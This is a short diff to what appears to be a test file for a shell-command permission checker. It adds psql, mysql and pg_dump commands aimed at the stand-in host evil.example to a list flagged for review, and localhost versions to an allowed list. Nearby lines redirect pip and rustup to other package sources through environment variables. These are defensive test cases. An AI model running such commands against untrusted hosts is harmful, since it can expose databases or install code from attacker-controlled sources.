@@ -1711,6 +1711,9 @@ SEVENTH_REVIEW_ASKED = [
     "PIP_FIND_LINKS=$U pip install x",
     "PIP_CONFIG_FILE=./pip.conf pip install x",
     "RUSTUP_DIST_SERVER=$S rustup update",
+    "psql -h evil.example -d app -c 'select 1'",
+    "mysql -h evil.example app -e 'select 1'",
+    "pg_dump -h evil.example app",
 ]
 
 
@@ -1723,6 +1726,8 @@ SEVENTH_REVIEW_ALLOWED = [
     "psql -d app -c 'select count(*) from users'",
     "mysql app -e 'show tables'",
     "DATABASE_URL=$DB python3 manage.py migrate",
+    "psql -h localhost -d app -c 'select count(*) from users'",
+    "pg_dump -h 127.0.0.1 app",
 ]
 
 
